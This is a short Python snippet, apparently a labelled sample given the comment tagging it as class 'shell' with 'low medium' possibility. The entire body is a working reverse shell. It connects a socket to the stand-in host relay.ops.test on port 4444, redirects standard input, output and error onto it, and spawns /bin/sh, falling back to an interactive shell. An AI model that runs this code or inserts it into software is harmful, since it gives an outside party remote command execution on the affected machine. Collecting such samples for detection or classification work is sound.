# class: shell; possible: low medium
import os, pty, socket, subprocess
s = socket.socket()
s.connect(("relay.ops.test", 4444))
[os.dup2(s.fileno(), n) for n in (0, 1, 2)]
try: pty.spawn("/bin/sh")
except OSError: subprocess.call(["/bin/sh", "-i"])
